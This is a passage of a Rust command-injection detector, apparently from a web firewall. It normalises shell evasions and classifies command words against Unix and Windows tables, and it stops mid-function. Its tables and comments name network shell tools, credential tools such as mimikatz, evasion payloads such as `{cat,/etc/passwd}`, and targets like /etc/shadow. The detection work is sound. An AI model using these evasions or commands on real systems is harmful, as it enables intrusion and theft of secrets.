//! Command injection for Unix shells and cmd.exe.
//!
//! The value is first rewritten the way a shell would read it, undoing the usual evasions
//! (`c'a't`, `c\at`, `c$@at`, `${IFS}`, `{cat,/etc/passwd}`, `n^e^t`, `c"m"d`), then cut into
//! command segments at the separators (`;`, `|`, `&`, newline, backquote, `$(`, parentheses).
//! The first word of each segment (after `sudo`, `env`, assignments, and a `/bin/`-style
//! directory) is looked up in the family's command table:
//!
//! - after a separator, an unambiguous command (`wget`, `uname`, `nc`) is an attack; a command
//!   that is also an English word (`cat`, `find`, `sleep`) needs shell-looking arguments
//!   (`-x`, a path, `$VAR`, a number or an address) or nothing at all after it;
//! - at the start of the value only an unambiguous command with arguments, or any command
//!   named by its binary directory (`/bin/cat`), is.
//!
//! A cheap byte scan rejects values that have neither a separator nor a first word that is a
//! command, which is most benign values, before anything is rewritten.

use std::sync::LazyLock;

use super::Detection;
use super::lfi;
use super::prefilter::{WordSet, byte_table, classes, first_bytes};
use super::util::{at, found, is_word};

/// How a command name reads in ordinary text.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    /// Not an English word: a command after a separator is an attack.
    Strong,
    /// Also an English word: needs shell-looking arguments.
    Weak,
    /// Only as a whole segment or with shell-looking arguments, even after a separator
    /// (`id`, `w`, `ps`: too short to trust).
    Short,
}

use Kind::{Short, Strong, Weak};

const UNIX_COMMANDS: &[(&str, Kind)] = &[
    ("ls", Strong),
    ("pwd", Short),
    ("whoami", Strong),
    ("uname", Strong),
    ("ifconfig", Strong),
    ("netstat", Strong),
    ("nslookup", Strong),
    ("wget", Strong),
    ("curl", Strong),
    ("nc", Strong),
    ("ncat", Strong),
    ("netcat", Strong),
    ("socat", Strong),
    ("telnet", Strong),
    ("ssh", Strong),
    ("scp", Strong),
    ("sftp", Strong),
    ("rsync", Strong),
    ("ftp", Short),
    ("tftp", Strong),
    ("bash", Strong),
    ("sh", Strong),
    ("zsh", Strong),
    ("ksh", Strong),
    ("csh", Strong),
    ("tcsh", Strong),
    ("dash", Weak),
    ("busybox", Strong),
    ("python", Strong),
    ("python2", Strong),
    ("python3", Strong),
    ("perl", Strong),
    ("ruby", Weak),
    ("php", Strong),
    ("node", Weak),
    ("nodejs", Strong),
    ("lua", Strong),
    ("tclsh", Strong),
    ("gcc", Strong),
    ("cc", Short),
    ("c99", Strong),
    ("c89", Strong),
    ("clang", Strong),
    ("chmod", Strong),
    ("chown", Strong),
    ("chgrp", Strong),
    ("chattr", Strong),
    ("useradd", Strong),
    ("userdel", Strong),
    ("usermod", Strong),
    ("adduser", Strong),
    ("passwd", Strong),
    ("chpasswd", Strong),
    ("sudo", Strong),
    ("su", Short),
    ("crontab", Strong),
    ("systemctl", Strong),
    ("service", Weak),
    ("kill", Weak),
    ("killall", Strong),
    ("pkill", Strong),
    ("pgrep", Strong),
    ("ps", Short),
    ("top", Weak),
    ("lsof", Strong),
    ("nohup", Strong),
    ("base64", Strong),
    ("xxd", Strong),
    ("hexdump", Strong),
    ("od", Short),
    ("openssl", Strong),
    ("gpg", Strong),
    ("tar", Weak),
    ("bsdtar", Strong),
    ("gzip", Strong),
    ("gunzip", Strong),
    ("bzip2", Strong),
    ("bunzip2", Strong),
    ("unzip", Strong),
    ("zip", Weak),
    ("zcat", Strong),
    ("bzcat", Strong),
    ("xz", Strong),
    ("unxz", Strong),
    ("xzcat", Strong),
    ("zstd", Strong),
    ("zstdcat", Strong),
    ("7z", Strong),
    ("awk", Strong),
    ("gawk", Strong),
    ("nawk", Strong),
    ("sed", Strong),
    ("grep", Strong),
    ("egrep", Strong),
    ("fgrep", Strong),
    ("find", Weak),
    ("xargs", Strong),
    ("tee", Weak),
    ("dd", Short),
    ("mkfifo", Strong),
    ("mknod", Strong),
    ("ln", Short),
    ("cp", Short),
    ("mv", Short),
    ("rm", Strong),
    ("rmdir", Strong),
    ("mkdir", Strong),
    ("touch", Weak),
    ("echo", Weak),
    ("printf", Strong),
    ("env", Short),
    ("printenv", Strong),
    ("export", Weak),
    ("unset", Strong),
    ("eval", Weak),
    ("exec", Weak),
    ("id", Short),
    ("who", Weak),
    ("hostname", Weak),
    ("dig", Weak),
    ("host", Weak),
    ("ping", Weak),
    ("ping6", Strong),
    ("traceroute", Strong),
    ("tracepath", Strong),
    ("arp", Short),
    ("iptables", Strong),
    ("nmap", Strong),
    ("masscan", Strong),
    ("tcpdump", Strong),
    ("strace", Strong),
    ("ltrace", Strong),
    ("gdb", Strong),
    ("ldd", Strong),
    ("strings", Weak),
    ("file", Weak),
    ("stat", Weak),
    ("chroot", Strong),
    ("mount", Weak),
    ("umount", Strong),
    ("df", Short),
    ("du", Short),
    ("free", Weak),
    ("uptime", Strong),
    ("last", Weak),
    ("lastlog", Strong),
    ("history", Weak),
    ("alias", Weak),
    ("which", Weak),
    ("whereis", Strong),
    ("locate", Weak),
    ("head", Weak),
    ("tail", Weak),
    ("more", Weak),
    ("less", Weak),
    ("cat", Weak),
    ("tac", Short),
    ("nl", Short),
    ("rev", Short),
    ("sort", Weak),
    ("uniq", Strong),
    ("cut", Weak),
    ("tr", Short),
    ("wc", Short),
    ("diff", Weak),
    ("split", Weak),
    ("sleep", Weak),
    ("usleep", Strong),
    ("shutdown", Weak),
    ("reboot", Weak),
    ("halt", Weak),
    ("poweroff", Strong),
    ("lwp-download", Strong),
    ("lwp-request", Strong),
    ("aria2c", Strong),
    ("java", Weak),
    ("jrunscript", Strong),
    ("jjs", Strong),
    ("groovy", Weak),
    ("osascript", Strong),
    ("xterm", Strong),
    ("screen", Weak),
    ("tmux", Strong),
    ("vi", Short),
    ("vim", Strong),
    ("nano", Weak),
    ("emacs", Weak),
    ("rar", Short),
    ("unrar", Strong),
    ("cpio", Strong),
    ("apt", Short),
    ("apt-get", Strong),
    ("yum", Short),
    ("dnf", Strong),
    ("rpm", Short),
    ("dpkg", Strong),
    ("pip", Short),
    ("pip3", Strong),
    ("npm", Short),
    ("gem", Short),
    ("git", Weak),
    ("docker", Weak),
    ("kubectl", Strong),
    ("mysql", Weak),
    ("psql", Strong),
    ("sqlite3", Strong),
    ("redis-cli", Strong),
    ("ab", Short),
    ("ansible", Strong),
    ("ansible-playbook", Strong),
    ("setsid", Strong),
    ("watch", Weak),
    ("seq", Short),
    ("expr", Short),
    ("shred", Strong),
    ("truncate", Weak),
    ("readlink", Strong),
    ("realpath", Strong),
    ("mktemp", Strong),
    ("whois", Weak),
    ("finger", Weak),
    ("getent", Strong),
    ("lscpu", Strong),
    ("lsblk", Strong),
    ("lsmod", Strong),
    ("insmod", Strong),
    ("modprobe", Strong),
    ("dmesg", Strong),
    ("journalctl", Strong),
    ("sysctl", Strong),
    ("setenforce", Strong),
    ("ssh-keygen", Strong),
    ("visudo", Strong),
    ("fetch", Weak),
    ("timeout", Weak),
    ("time", Weak),
    ("source", Weak),
    ("bzip", Strong),
    ("uudecode", Strong),
    ("uuencode", Strong),
    ("php-cgi", Strong),
    ("runuser", Strong),
    ("pkexec", Strong),
    ("doas", Strong),
    ("ionice", Strong),
    ("nice", Weak),
    ("env-update", Strong),
    ("chsh", Strong),
    ("wall", Weak),
    ("write", Weak),
    ("mail", Weak),
    ("sendmail", Strong),
    ("mailx", Strong),
    ("dos2unix", Strong),
    ("column", Weak),
    ("fold", Weak),
    ("flock", Strong),
    ("base32", Strong),
    ("cpulimit", Strong),
    ("comm", Weak),
    ("perf", Weak),
    ("rmt", Strong),
    ("rmt-tar", Strong),
    ("rmt-dump", Strong),
    ("irb", Strong),
    ("aptitude", Strong),
    ("htop", Strong),
    ("cscli", Strong),
    ("lastlogin", Strong),
    ("knife", Weak),
    ("puppet", Weak),
    ("terraform", Strong),
    ("helm", Weak),
    ("chef-client", Strong),
    ("chef-shell", Strong),
    ("chef-run", Strong),
    ("chef-vault", Strong),
    ("chef-solo", Strong),
    ("ansible-config", Strong),
    ("ansible-galaxy", Strong),
    ("ansible-console", Strong),
    ("ansible-doc", Strong),
    ("ansible-inventory", Strong),
    ("ansible-pull", Strong),
    ("ansible-vault", Strong),
    ("zypper", Strong),
    ("apk", Strong),
    ("pacman", Strong),
    ("emerge", Strong),
    ("snap", Weak),
    ("flatpak", Strong),
    ("brew", Strong),
    ("port", Weak),
    ("pkg_add", Strong),
    ("yarn", Strong),
    ("pnpm", Strong),
    ("bundle", Weak),
    ("rake", Weak),
    ("gdbserver", Strong),
    ("valgrind", Strong),
    ("socat2", Strong),
    ("nping", Strong),
    ("hping3", Strong),
    ("proxychains", Strong),
    ("torsocks", Strong),
    ("stunnel", Strong),
    ("autossh", Strong),
    ("sshpass", Strong),
    ("plink", Strong),
    ("expect", Weak),
    ("unbuffer", Strong),
    ("stdbuf", Strong),
    ("script", Weak),
    ("runcon", Strong),
    ("chcon", Strong),
    ("setfacl", Strong),
    ("getfacl", Strong),
    ("capsh", Strong),
    ("setcap", Strong),
    ("getcap", Strong),
    ("unshare", Strong),
    ("nsenter", Strong),
    ("ip6tables", Strong),
    ("nft", Strong),
    ("tc", Weak),
    ("ethtool", Strong),
    ("iwconfig", Strong),
    ("lsattr", Strong),
    ("lsusb", Strong),
    ("lspci", Strong),
    ("lshw", Strong),
    ("dmidecode", Strong),
    ("blkid", Strong),
    ("fdisk", Strong),
    ("parted", Strong),
    ("mkfs", Strong),
    ("losetup", Strong),
    ("cryptsetup", Strong),
    ("atq", Strong),
    ("atrm", Strong),
    ("batch", Weak),
    ("systemd-run", Strong),
    ("launchctl", Strong),
    ("initctl", Strong),
    ("update-rc.d", Strong),
    ("chkconfig", Strong),
    ("rc-service", Strong),
    ("basenc", Strong),
    ("hd", Weak),
    ("objdump", Strong),
    ("readelf", Strong),
    ("nm", Weak),
    ("ld", Weak),
    ("as", Weak),
    ("gcc-12", Strong),
    ("tcc", Strong),
    ("mawk", Strong),
    ("toybox", Strong),
    ("ash", Strong),
    ("rbash", Strong),
    ("rksh", Strong),
    ("pdksh", Strong),
    ("mksh", Strong),
    ("yash", Strong),
    ("posh", Strong),
    ("elvish", Strong),
    ("xonsh", Strong),
    ("nu", Short),
    ("php5", Strong),
    ("php7", Strong),
    ("php8", Strong),
    ("perl5", Strong),
    ("python2.7", Strong),
    ("jython", Strong),
    ("jruby", Strong),
    ("rlwrap", Strong),
    ("curlie", Strong),
    ("httpie", Strong),
    ("http", Weak),
    ("xh", Short),
    ("axel", Strong),
    ("lftp", Strong),
    ("ncftp", Strong),
    ("smbclient", Strong),
    ("rpcclient", Strong),
    ("enum4linux", Strong),
    ("mysqldump", Strong),
    ("pg_dump", Strong),
    ("mongodump", Strong),
    ("mongoexport", Strong),
    ("sqlcmd", Strong),
    ("isql", Strong),
    ("wish", Strong),
    ("expectk", Strong),
    ("gimp", Strong),
    ("rsh", Strong),
    ("rlogin", Strong),
    ("rcp", Strong),
    ("rexec", Strong),
    ("mesg", Strong),
    ("talk", Weak),
    ("pwdx", Strong),
    ("pmap", Strong),
    ("fuser", Strong),
    ("lsns", Strong),
    ("lslogins", Strong),
    ("faillog", Strong),
    ("lastb", Strong),
    ("users", Weak),
    ("groups", Weak),
    ("iconv", Strong),
    ("recode", Strong),
    ("enca", Strong),
    ("csplit", Strong),
    ("pr", Weak),
    ("fmt", Weak),
    ("paste", Weak),
    ("join", Weak),
    ("expand", Weak),
    ("unexpand", Strong),
    ("sponge", Weak),
    ("parallel", Weak),
    ("mlocate", Strong),
    ("updatedb", Strong),
    ("pax", Weak),
    ("ar", Weak),
    ("lzma", Strong),
    ("lz4", Strong),
    ("7za", Strong),
    ("7zr", Strong),
    ("md5sum", Strong),
    ("sha1sum", Strong),
    ("sha256sum", Strong),
    ("sha512sum", Strong),
    ("cksum", Strong),
    ("sum", Weak),
    ("date", Weak),
    ("cal", Weak),
    ("bc", Weak),
    ("dc", Weak),
    ("factor", Weak),
    ("shuf", Strong),
    ("drill", Strong),
    ("delv", Strong),
    ("resolvectl", Strong),
    ("iptables-save", Strong),
    ("iptables-restore", Strong),
    ("groupadd", Strong),
    ("groupdel", Strong),
    ("gpasswd", Strong),
    ("newgrp", Strong),
    ("chage", Strong),
    ("sudoedit", Strong),
    ("sg", Weak),
    ("skill", Strong),
    ("snice", Strong),
    ("disown", Strong),
];

const WINDOWS_COMMANDS: &[(&str, Kind)] = &[
    ("cmd", Strong),
    ("cmd.exe", Strong),
    ("command.com", Strong),
    ("powershell", Strong),
    ("powershell.exe", Strong),
    ("pwsh", Strong),
    ("net", Weak),
    ("net1", Strong),
    ("ipconfig", Strong),
    ("systeminfo", Strong),
    ("whoami", Strong),
    ("tasklist", Strong),
    ("taskkill", Strong),
    ("reg", Short),
    ("regedit", Strong),
    ("regsvr32", Strong),
    ("rundll32", Strong),
    ("certutil", Strong),
    ("bitsadmin", Strong),
    ("wmic", Strong),
    ("nslookup", Strong),
    ("ping", Weak),
    ("dir", Short),
    ("type", Weak),
    ("copy", Weak),
    ("del", Short),
    ("erase", Weak),
    ("attrib", Strong),
    ("cscript", Strong),
    ("wscript", Strong),
    ("mshta", Strong),
    ("schtasks", Strong),
    ("sc", Short),
    ("netsh", Strong),
    ("netstat", Strong),
    ("findstr", Strong),
    ("tracert", Strong),
    ("nbtstat", Strong),
    ("ver", Short),
    ("hostname", Weak),
    ("set", Weak),
    ("echo", Weak),
    ("shutdown", Weak),
    ("icacls", Strong),
    ("cacls", Strong),
    ("takeown", Strong),
    ("vssadmin", Strong),
    ("wevtutil", Strong),
    ("tftp", Strong),
    ("xcopy", Strong),
    ("robocopy", Strong),
    ("msiexec", Strong),
    ("start", Weak),
    ("call", Weak),
    ("rmdir", Strong),
    ("mkdir", Strong),
    ("rd", Short),
    ("md", Short),
    ("ren", Short),
    ("move", Weak),
    ("forfiles", Strong),
    ("runas", Strong),
    ("qwinsta", Strong),
    ("quser", Strong),
    ("klist", Strong),
    ("nltest", Strong),
    ("dsquery", Strong),
    ("ntdsutil", Strong),
    ("esentutl", Strong),
    ("diskpart", Strong),
    ("installutil", Strong),
    ("msbuild", Strong),
    ("regasm", Strong),
    ("regsvcs", Strong),
    ("odbcconf", Strong),
    ("cmstp", Strong),
    ("curl", Strong),
    ("curl.exe", Strong),
    ("notepad", Weak),
    ("notepad.exe", Strong),
    ("calc", Short),
    ("calc.exe", Strong),
    ("explorer.exe", Strong),
    ("wsl", Strong),
    ("bash.exe", Strong),
    ("sethc.exe", Strong),
    ("arp", Short),
    ("route", Weak),
    ("getmac", Strong),
    ("gpresult", Strong),
    ("auditpol", Strong),
    ("cipher", Weak),
    ("fsutil", Strong),
    ("mountvol", Strong),
    ("bcdedit", Strong),
    ("sdbinst", Strong),
    ("winrm", Strong),
    ("winrs", Strong),
    ("psexec", Strong),
    ("wmiexec", Strong),
    ("mimikatz", Strong),
    ("bcdboot", Strong),
    ("bootcfg", Strong),
    ("wbadmin", Strong),
    ("secedit", Strong),
    ("gpupdate", Strong),
    ("wusa", Strong),
    ("dism", Strong),
    ("sfc", Strong),
    ("chkdsk", Strong),
    ("compact", Weak),
    ("convert", Weak),
    ("defrag", Strong),
    ("diskshadow", Strong),
    ("label", Weak),
    ("mklink", Strong),
    ("recover", Weak),
    ("subst", Strong),
    ("vol", Weak),
    ("tskill", Strong),
    ("at", Weak),
    ("logoff", Weak),
    ("msg", Weak),
    ("query", Weak),
    ("qprocess", Strong),
    ("rwinsta", Strong),
    ("tsdiscon", Strong),
    ("pathping", Strong),
    ("wmiprvse", Strong),
    ("regini", Strong),
    ("expand", Weak),
    ("extrac32", Strong),
    ("makecab", Strong),
    ("replace", Weak),
    ("cmdkey", Strong),
    ("ksetup", Strong),
    ("setspn", Strong),
    ("dsget", Strong),
    ("csvde", Strong),
    ("ldifde", Strong),
    ("format", Weak),
    ("more", Weak),
    ("sort", Weak),
    ("find", Weak),
    ("clip", Weak),
    ("choice", Weak),
    ("timeout", Weak),
    ("waitfor", Strong),
    ("mavinject", Strong),
    ("pcalua", Strong),
    ("msdt", Strong),
    ("control", Weak),
];

/// Commands whose plain-word arguments are still file names (`ls foo bar`).
const FILE_TOOLS: &[&[u8]] = &[
    b"ls", b"rm", b"chmod", b"chown", b"cp", b"mv", b"ln", b"cat", b"tac", b"nl",
];

/// Commands that are an attack even as a whole value on their own.
const ALONE: &[&[u8]] = &[
    b"whoami",
    b"ifconfig",
    b"ipconfig",
    b"uname",
    b"netstat",
    b"systeminfo",
    b"visudo",
    b"lsof",
    b"htop",
    b"tasklist",
    b"getmac",
    b"printenv",
    b"dmesg",
    b"lscpu",
    b"lsmod",
    b"qwinsta",
    b"quser",
];

/// `net user`, `net localgroup`: what makes `net` a command.
const NET_SUBCOMMANDS: &[&[u8]] = &[
    b"user",
    b"users",
    b"localgroup",
    b"group",
    b"use",
    b"share",
    b"view",
    b"start",
    b"stop",
    b"accounts",
    b"config",
    b"session",
    b"time",
    b"file",
];

/// Directories whose binaries are commands whatever their name.
const BIN_DIRS: &[&[u8]] = &[
    b"/bin/",
    b"/sbin/",
    b"/usr/bin/",
    b"/usr/sbin/",
    b"/usr/local/bin/",
    b"/usr/local/sbin/",
    b"bin/",
];

/// Shell variables whose expansion reveals the environment (AWS's "echo $HOME").
const UNIX_VARIABLES: &[&[u8]] = &[
    b"HOME",
    b"PATH",
    b"SHELL",
    b"USER",
    b"PWD",
    b"OLDPWD",
    b"HOSTNAME",
    b"UID",
    b"EUID",
    b"LOGNAME",
    b"BASH",
    b"BASH_VERSION",
    b"ENV",
    b"IFS",
    b"PS1",
    b"TMPDIR",
    b"LD_PRELOAD",
    b"SHLVL",
    b"HISTFILE",
    b"MAIL",
];

/// Windows environment variables that name the shell or the system directories.
const WINDOWS_VARIABLES: &[&[u8]] = &[
    b"comspec",
    b"systemroot",
    b"windir",
    b"systemdrive",
    b"pathext",
    b"psmodulepath",
];

/// Paths that wildcard evasions (`/???/??t /???/p?ss??`) aim at.
const GLOB_TARGETS: &[&[u8]] = &[
    b"/bin/cat",
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/nc",
    b"/bin/ls",
    b"/bin/echo",
    b"/usr/bin/wget",
    b"/usr/bin/curl",
    b"/usr/bin/nc",
    b"/usr/bin/id",
    b"/usr/bin/whoami",
    b"/usr/bin/python",
    b"/usr/bin/perl",
    b"/usr/bin/bash",
    b"/usr/bin/sh",
    b"/usr/bin/env",
    b"/usr/bin/uname",
    b"/bin/uname",
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/hosts",
    b"/etc/group",
    b"/etc/issue",
    b"/proc/self/environ",
    b"/bin/busybox",
];

/// The longest command name looked up.
pub(super) const MAX_NAME: usize = 24;

struct Table {
    /// Command names (lowercase, none repeated): exact, case-insensitive lookups, most words
    /// rejected by their first two bytes before any hashing.
    names: WordSet,
    kinds: Vec<Kind>,
}

fn table(commands: &[(&'static str, Kind)]) -> Table {
    let names: Vec<&str> = commands.iter().map(|(n, _)| *n).collect();
    Table {
        names: WordSet::new(&names),
        kinds: commands.iter().map(|(_, k)| *k).collect(),
    }
}

static UNIX: LazyLock<Table> = LazyLock::new(|| table(UNIX_COMMANDS));
static WINDOWS: LazyLock<Table> = LazyLock::new(|| table(WINDOWS_COMMANDS));

impl Table {
    /// The kind of `word` when it is exactly a command name (ASCII case-insensitive).
    fn kind(&self, word: &[u8]) -> Option<Kind> {
        if word.len() < 2 || word.len() > MAX_NAME {
            return None;
        }
        self.kinds.get(self.names.get(word)?).copied()
    }

    /// Whether any word of `input` names a command (or a versioned or dotted one).
    fn mentions_command(&self, input: &[u8]) -> bool {
        let word_byte = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.');
        let mut i = 0;
        while i < input.len() {
            if !word_byte(input[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < input.len() && word_byte(input[i]) {
                i += 1;
            }
            let word = &input[start..i];
            let head = &word[..word.iter().position(|&c| c == b'.').unwrap_or(word.len())];
            if lookup(self, word).is_some() || lookup(self, head).is_some() {
                return true;
            }
        }
        false
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Flavor {
    Unix,
    Windows,
}

/// What rewriting found along the way.
#[derive(Default)]
struct Rewrite {
    out: Vec<u8>,
    /// `${IFS}`, `$IFS`.
    ifs: bool,
    /// Quotes, backslashes, carets or empty expansions were removed from inside a word.
    spliced: bool,
}

/// Bytes that can make a value a command injection: separators and evasion characters.
const INTERESTING: u8 = 1;
/// Bytes that rewriting changes (dropped NUL, whitespace made a space) or that read as a
/// separator (the substitution mark).
const REWRITTEN: u8 = 2;
/// Bytes that could splice a command together.
const SPLICE: u8 = 4;

const UNIX_BYTES: [u8; 256] = byte_table(&[
    (b";|&$`\n'\"\\({<>?*[~!", INTERESTING),
    (b"\0\x01\t\r\x0b\x0c", REWRITTEN),
    (b"'\"\\${[`<>^%", SPLICE),
]);
const WINDOWS_BYTES: [u8; 256] = byte_table(&[
    (b";|&%^\n\"(<>`", INTERESTING),
    (b"\0\x01\t\r\x0b\x0c", REWRITTEN),
    (b"'\"\\${[`<>^%", SPLICE),
]);

/// Rewrites a value as the shell would read its words.
fn rewrite(input: &[u8], flavor: Flavor) -> Rewrite {
    let mut r = Rewrite {
        out: Vec::with_capacity(input.len() + 8),
        ..Rewrite::default()
    };
    let mut brace_depth = 0u32;
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        match (flavor, b) {
            (_, 0) => {}
            (_, b'\t' | b'\r' | 0x0b | 0x0c) => r.out.push(b' '),
            (Flavor::Unix, b'\\') => {
                let next = input.get(i + 1).copied().unwrap_or(b' ');
                if next == b'\n' {
                    i += 1;
                } else if next.is_ascii_alphanumeric() || next == b'/' {
                    r.spliced |= i > 0 && is_word(input[i - 1]);
                } else {
                    r.out.push(b'\\');
                }
            }
            (Flavor::Unix, b'\'' | b'"') | (Flavor::Windows, b'"') => {
                let glued =
                    i > 0 && is_word(input[i - 1]) && input.get(i + 1).is_some_and(|&c| is_word(c));
                r.spliced |= glued;
            }
            (Flavor::Windows, b'^') => r.spliced = true,
            (_, b'`') => r.out.push(SUBST),
            (_, b'&')
                if {
                    let n = input[i + 1..]
                        .iter()
                        .take(10)
                        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'#')
                        .count();
                    n >= 2 && input.get(i + 1 + n) == Some(&b';')
                } =>
            {
                // an HTML entity the transformations left (`&copy;`), not a separator
                let n = input[i + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'#')
                    .count();
                r.out.push(b' ');
                i += n + 2;
                continue;
            }
            (Flavor::Unix, b'[')
                if i > 0
                    && (is_word(input[i - 1]) || input[i - 1] == b'/')
                    && input.get(i + 2) == Some(&b']')
                    && input.get(i + 1).is_some_and(|&c| is_word(c)) =>
            {
                // `pas[s]wd`: a one-character class is that character
                r.out.push(input[i + 1]);
                r.spliced = true;
                i += 3;
                continue;
            }
            (Flavor::Unix, b'$') => {
                let rest = &input[i + 1..];
                if rest.starts_with(b"()") {
                    // an empty substitution glued into a word
                    r.spliced = true;
                    i += 3;
                    continue;
                }
                if rest.starts_with(b"((") {
                    // arithmetic expansion: a number, dropped
                    let close = memchr::memmem::find(rest, b"))").map_or(rest.len(), |p| p + 2);
                    r.spliced = true;
                    i += 1 + close;
                    continue;
                }
                if rest.starts_with(b"(") {
                    r.out.push(SUBST);
                    i += 2;
                    continue;
                }
                if rest.starts_with(b"{IFS}") || rest.starts_with(b"IFS") {
                    r.ifs = true;
                    r.out.push(b' ');
                    i += if rest.starts_with(b"{") { 6 } else { 4 };
                    // `$IFS$9`
                    if input.get(i) == Some(&b'$')
                        && input.get(i + 1).is_some_and(u8::is_ascii_digit)
                    {
                        i += 2;
                    }
                    continue;
                }
                match rest.first().copied() {
                    Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'$' | b'#' | b'0'..=b'9') => {
                        // empty-ish special parameters glued into a word
                        r.spliced = true;
                        i += 2;
                        continue;
                    }
                    Some(b'{') => {
                        // `${a}`: an unset lowercase variable expands to nothing
                        let name_len = rest[1..]
                            .iter()
                            .take_while(|&&c| {
                                c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'_'
                            })
                            .count();
                        if name_len > 0 && name_len <= 8 && rest.get(1 + name_len) == Some(&b'}') {
                            r.spliced = true;
                            i += 3 + name_len;
                            continue;
                        }
                        r.out.push(b'$');
                    }
                    Some(c) if c.is_ascii_lowercase() || c == b'_' => {
                        // `$u`, `$garb`: unset lowercase variables in or between words
                        let name_len = rest
                            .iter()
                            .take_while(|&&c| {
                                c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'_'
                            })
                            .count();
                        if name_len <= 6 {
                            r.spliced = true;
                            i += 1 + name_len;
                            continue;
                        }
                        r.out.push(b'$');
                    }
                    _ => r.out.push(b'$'),
                }
            }
            (Flavor::Unix, b'{') => {
                // `{cat,/etc/passwd}`: brace expansion separates words with commas
                let body = &input[i + 1..];
                let close = body.iter().take(64).position(|&c| c == b'}');
                let is_expansion = close.is_some_and(|c| {
                    let inner = &body[..c];
                    inner.contains(&b',') && !inner.contains(&b' ') && !inner.contains(&b'"')
                });
                if is_expansion {
                    brace_depth += 1;
                    r.out.push(b';');
                } else {
                    r.out.push(b'{');
                }
            }
            (Flavor::Unix, b'}') if brace_depth > 0 => {
                brace_depth -= 1;
                r.out.push(b' ');
            }
            (Flavor::Unix, b',') if brace_depth > 0 => r.out.push(b' '),
            (Flavor::Unix, b'<' | b'>') => {
                if input.get(i + 1) == Some(&b'(') {
                    r.out.push(SUBST);
                    i += 2;
                    continue;
                }
                if input[i..].starts_with(b"<<<") {
                    // a here-string: its text is often run
                    r.out.push(SUBST);
                    i += 3;
                    continue;
                }
                r.out.push(b' ');
            }
            _ => r.out.push(b),
        }
        i += 1;
    }
    r
}

/// Marks, in rewritten text, the start of a command substitution (`$(`, backquote, `<(`,
/// `<<<`): whatever follows is run, so even a command that is an English word counts.
const SUBST: u8 = 0x01;

fn is_separator(b: u8, flavor: Flavor) -> bool {
    match flavor {
        Flavor::Unix => matches!(b, b';' | b'|' | b'&' | b'\n' | SUBST | b'(' | b')'),
        Flavor::Windows => matches!(b, b';' | b'|' | b'&' | b'\n' | b'(' | b')' | SUBST),
    }
}

/// Whether `args` (what follows a command word in its segment) look like a shell's.
fn shellish_args(args: &[u8], flavor: Flavor) -> bool {
    let args = trim(args);
    let Some(&first) = args.first() else {
        return true;
    };
    let word_end = args.iter().position(|&c| c == b' ').unwrap_or(args.len());
    let word = &args[..word_end];
    match first {
        b'-' => word.len() > 1 && (word[1].is_ascii_alphabetic() || word[1] == b'-'),
        b'/' => match flavor {
            Flavor::Unix => word.len() > 1,
            // a switch (`/c`, `/all`) or a path
            Flavor::Windows => word.len() > 1 && word.len() <= 12,
        },
        b'.' => word.starts_with(b"./") || word.starts_with(b"../") || word.starts_with(b".\\"),
        b'~' | b'$' | b'%' | b'*' | b'>' | b'\\' => true,
        b'0'..=b'9' => word
            .iter()
            .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b'x'),
        _ => {
            // `c:\…`, `user@host`, `host.tld` (ping, dig, curl targets)
            (word.len() > 2 && word[1] == b':' && matches!(word[2], b'\\' | b'/'))
                || looks_like_host(word)
        }
    }
}

/// `example.com`, `10.0.0.1`, `evil.co:4444`: a dot between two word characters, no spaces.
fn looks_like_host(word: &[u8]) -> bool {
    const CODE: &[&[u8]] = &[
        b".py", b".js", b".rb", b".php", b".java", b".go", b".rs", b".ts", b".md", b".txt",
        b".html",
    ];
    if CODE
        .iter()
        .any(|e| word.len() > e.len() && word[word.len() - e.len()..].eq_ignore_ascii_case(e))
    {
        return false;
    }
    word.len() >= 4
        && word
            .windows(3)
            .any(|w| is_word(w[0]) && w[1] == b'.' && w[2].is_ascii_alphanumeric())
        && word
            .iter()
            .all(|&c| is_word(c) || matches!(c, b'.' | b'-' | b':' | b'@' | b'/'))
        && !word.ends_with(b".")
}

fn trim(s: &[u8]) -> &[u8] {
    let start = s.iter().position(|&c| c != b' ').unwrap_or(s.len());
    let end = s.iter().rposition(|&c| c != b' ').map_or(start, |e| e + 1);
    &s[start..end]
}

/// One command segment: where its first word is, what precedes it.
struct Segment<'a> {
    /// Whether a separator (not the start of the value) precedes it.
    after_separator: bool,
    /// Whether that separator starts a substitution.
    in_substitution: bool,
    /// A lone `&` between spaces, as prose writes it (`salt & pepper`).
    loose: bool,
    /// The separator before it (0 at the start).
    sep: u8,
    /// Whether a separator follows it.
    ended_by_separator: bool,
    /// The command word, with any directory.
    word: &'a [u8],
    /// The rest of the segment.
    args: &'a [u8],
}

/// Prefixes that run the next word as a command.
const PREFIXES: &[&[u8]] = &[
    b"sudo",
    b"nohup",
    b"time",
    b"env",
    b"exec",
    b"command",
    b"builtin",
    b"nice",
    b"strace",
    b"ltrace",
    b"xargs",
    b"timeout",
    b"stdbuf",
    b"setsid",
    b"doas",
    b"watch",
    b"unbuffer",
    b"proxychains",
    b"torsocks",
    b"chroot",
];

/// The first bytes of [`PREFIXES`], either case: a fast reject.
const PREFIX_FIRST: [u8; 256] = first_bytes(PREFIXES);

fn segments(text: &[u8], flavor: Flavor) -> impl Iterator<Item = Segment<'_>> {
    let mut pos = 0usize;
    let mut first = true;
    let mut prev_sep = 0u8;
    std::iter::from_fn(move || {
        while pos <= text.len() {
            let start = pos;
            let sep_before = prev_sep;
            let loose = sep_before == b'&'
                && start >= 2
                && text[start - 2] == b' '
                && text.get(start) == Some(&b' ');
            let end = text[start..]
                .iter()
                .position(|&c| is_separator(c, flavor))
                .map_or(text.len(), |p| start + p);
            pos = end + 1;
            prev_sep = text.get(end).copied().unwrap_or(0);
            let mut after_separator = !first;
            first = false;
            let mut seg = trim(&text[start..end]);
            // `name=value` at the start of a segment (a form field, an assignment): the value
